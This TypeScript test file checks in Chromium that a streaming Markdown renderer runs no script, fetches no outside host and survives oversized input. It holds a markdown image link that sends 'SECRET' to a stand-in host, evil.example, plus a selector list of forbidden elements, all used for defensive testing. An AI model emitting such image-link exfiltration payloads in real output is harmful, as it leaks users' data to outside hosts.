import { rm } from "node:fs/promises";
import fc from "fast-check";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { buildStage } from "../../bench/web/build-stage.ts";
import { serveStage } from "../../bench/web/serve-stage.ts";
import type { Stage } from "../../web/stage/stage-contract.ts";
import { arbitraryMarkdown, arbitrarySteps, prefixesOf } from "./hostile/arbitrary-markdown.ts";
import { chromiumPath, launchChromium } from "./app/chromium.ts";
import { hostileMarkdown } from "./hostile/hostile-markdown.ts";

const everySplit = 12;
const stackedMarks = "\u0301".repeat(100_000);

declare global {
  var stage: Stage;
}

/** What happened on the page that must not happen. */
interface Incidents {
  readonly dialogs: string[];
  readonly foreign: string[];
  readonly navigations: string[];
  readonly popups: string[];
  readonly errors: string[];
}

const watch = async (page: Page, origin: string): Promise<Incidents> => {
  const incidents: Incidents = { dialogs: [], foreign: [], navigations: [], popups: [], errors: [] };
  page.on("dialog", (dialog) => {
    incidents.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const url = request.url();
    const isInert = url.startsWith(`${origin}assets/`) || url.startsWith("data:image/") || url.startsWith("blob:");
    if (!isInert) incidents.foreign.push(url);
  });
  page.on("framenavigated", (frame) => incidents.navigations.push(frame.url()));
  page.on("popup", (popup) => incidents.popups.push(popup.url()));
  page.on("pageerror", (error) => incidents.errors.push(String(error)));
  await page.exposeFunction("reportViolation", (directive: string) => incidents.errors.push(`policy: ${directive}`));
  await page.evaluate(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const report: unknown = Reflect.get(globalThis, "reportViolation");
      if (typeof report === "function") report(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  return incidents;
};

const nothing: Incidents = { dialogs: [], foreign: [], navigations: [], popups: [], errors: [] };

describe.skipIf(chromiumPath === null)("hostile Markdown in Chromium, under the app's policy", () => {
  let browser: Browser;
  let page: Page;
  let directory: string;
  let stage: Awaited<ReturnType<typeof serveStage>>;
  let incidents: Incidents;

  beforeAll(async () => {
    directory = await buildStage("markdown");
    stage = await serveStage(directory);
    browser = await launchChromium();
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    stage?.stop();
    await rm(directory, { recursive: true, force: true });
  });

  beforeEach(async (context) => {
    page = await browser.newPage({ viewport: { width: 900, height: 700 } });
    context.onTestFinished(() => page.close());
    await page.goto(stage.url);
    // an element of that id has the name before the stage is there
    await page.waitForFunction(() => typeof globalThis.stage.show === "function");
    incidents = await watch(page, stage.url);
  });

  const settle = (): Promise<void> =>
    page.evaluate(async () => {
      for (let frame = 0; frame < 4; frame += 1) await new Promise(requestAnimationFrame);
    });

  it.each(Object.entries(hostileMarkdown))(
    "%s: runs nothing and asks no other host, whole or split",
    async (_, text) => {
      await page.evaluate((whole) => globalThis.stage.show(whole, false), text);
      await settle();
      await page.evaluate(
        async ([whole, step]) => {
          for (let end = 0; end <= whole.length; end += step) {
            globalThis.stage.show("", false);
            globalThis.stage.show(whole.slice(0, end), true);
            globalThis.stage.show(whole, false);
          }
          for (let end = 1; end <= whole.length; end += 1) globalThis.stage.show(whole.slice(0, end), true);
        },
        [text, Math.max(1, Math.ceil(text.length / (everySplit * 20)))] as const,
      );
      await settle();
      expect(incidents).toEqual(nothing);
      expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
      const addresses = await page
        .locator("#stage :is(a[href], img[src])")
        .evaluateAll((elements) =>
          elements.map((element) => element.getAttribute("href") ?? element.getAttribute("src") ?? ""),
        );
      for (const address of addresses)
        expect(address).toMatch(/^(https?:|mailto:|data:image\/(png|jpeg|gif|webp|avif);)/);
      const forbidden =
        "#stage :is(script, iframe, object, embed, form, style, link, meta, base, svg [onload], [onerror], [onclick])";
      expect(await page.locator(forbidden).count()).toBe(0);
    },
  );

  it("would see a dialog, a request to another host and a style that the policy refuses", async () => {
    await page.evaluate(async () => {
      const image = document.createElement("img");
      image.src = "https://evil.example/i";
      const painted = document.createElement("div");
      painted.setAttribute("style", "color: red");
      document.body.append(image, painted);
      await new Promise((resolve) => setTimeout(() => resolve(alert("seen"))));
    });
    await settle();
    expect(incidents.dialogs).toEqual(["seen"]);
    expect(incidents.errors.toSorted()).toEqual([
      "policy: img-src https://evil.example/i",
      "policy: style-src-attr inline",
    ]);
  });

  it("S21: an image of another host is fetched by nobody until a person follows its link", async () => {
    await page.evaluate(() => globalThis.stage.show("![chart](https://evil.example/?d=SECRET)", false));
    const card = page.getByRole("link", { name: /Image from evil\.example/ });
    expect(await card.getAttribute("rel")).toContain("noreferrer");
    expect(await card.getAttribute("target")).toBe("_blank");
    expect(incidents).toEqual(nothing);
  });

  const oversized: Readonly<Record<string, string>> = {
    "one line of 5 MB": "a".repeat(5_000_000),
    "one line of 5 MB in words": "word *a* [b](c) ".repeat(312_500),
    "10,000 nested quotations": `${"> ".repeat(10_000)}x`,
    "10,000 lines, each quoted deeper": Array.from({ length: 600 }, (_, depth) => `${">".repeat(depth)} x`).join("\n"),
    "100,000 marks on a letter": `before e${stackedMarks} after\n\n\`\`\`\ne${stackedMarks}\n\`\`\``,
    "a fence of 5 MB": `\`\`\`js\n${"let a = 1;\n".repeat(450_000)}\`\`\``,
    "30,000 blocks": "a\n\n".repeat(30_000),
  };

  it.each(Object.entries(oversized))("S24: %s is shown within 2 s and breaks no layout", async (_, text) => {
    const session = await page.context().newCDPSession(page);
    // the processor time of the page's thread: what else the machine does must not decide
    await session.send("Performance.enable", { timeDomain: "threadTicks" });
    const taken = async (): Promise<number> => {
      const { metrics } = await session.send("Performance.getMetrics");
      return 1_000 * metrics.find(({ name }) => name === "TaskDuration")!.value;
    };
    const before = await taken();
    await page.evaluate(async (whole) => {
      globalThis.stage.show(whole, false);
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    }, text);
    const milliseconds = (await taken()) - before;
    expect(milliseconds).toBeGreaterThan(0);
    expect(milliseconds).toBeLessThan(2_000);
    expect(await page.locator("#stage").evaluate(({ scrollWidth }) => scrollWidth)).toBeLessThanOrEqual(900);
    expect(incidents).toEqual(nothing);
  });

  it("N3: draws after each step of any size what it draws of the whole text at once", async () => {
    const cases = fc
      .sample(fc.tuple(arbitraryMarkdown, arbitrarySteps), { numRuns: 150, seed: 20_26 })
      .map(([text, sizes]) => [...prefixesOf(text.replaceAll(/[$`~\\]/g, ""), sizes)]);
    const differences = await page.evaluate((all) => {
      const shown = (): string => document.querySelector("article:last-child")?.innerHTML ?? "";
      const atOnce = (text: string, isStreaming: boolean): string => {
        globalThis.stage.show("", false);
        globalThis.stage.show(text, isStreaming);
        return shown();
      };
      return all.flatMap((prefixes) => {
        const expected = prefixes.map((prefix) => atOnce(prefix, true));
        globalThis.stage.show("", true);
        const wrong = prefixes.filter((prefix, index) => {
          globalThis.stage.show(prefix, true);
          return shown() !== expected[index];
        });
        const whole = prefixes.at(-1) ?? "";
        globalThis.stage.show(whole, false);
        return shown() === atOnce(whole, false) ? wrong : [...wrong, whole];
      });
    }, cases);
    expect(differences).toEqual([]);
  });

  it("finished blocks keep their elements while the text grows, and colours of code do not flicker", async () => {
    const text = "# Title\n\npara\n\n- a\n- b\n\n```ts\nconst a = 1;\nlet b = 2;\n";
    await page.evaluate((shown) => globalThis.stage.show(shown, true), text);
    await page.waitForSelector(".token-keyword");
    const kept = await page.evaluate(async (start) => {
      const elements = [...document.querySelectorAll(".md > *")];
      const line = document.querySelector(".md-code code > span");
      let flickers = 0;
      let text = start;
      for (let step = 0; step < 40; step += 1) {
        text += `const c${step} = "x";\n`;
        globalThis.stage.show(text, true);
        await new Promise(requestAnimationFrame);
        if (line?.querySelector(".token-keyword") == null) flickers += 1;
      }
      globalThis.stage.show(`${text}\`\`\`\n\nend`, false);
      const now = [...document.querySelectorAll(".md > *")];
      return { areSame: elements.every((element, index) => element === now[index]), flickers };
    }, text);
    expect(kept).toEqual({ areSame: true, flickers: 0 });
  });
});
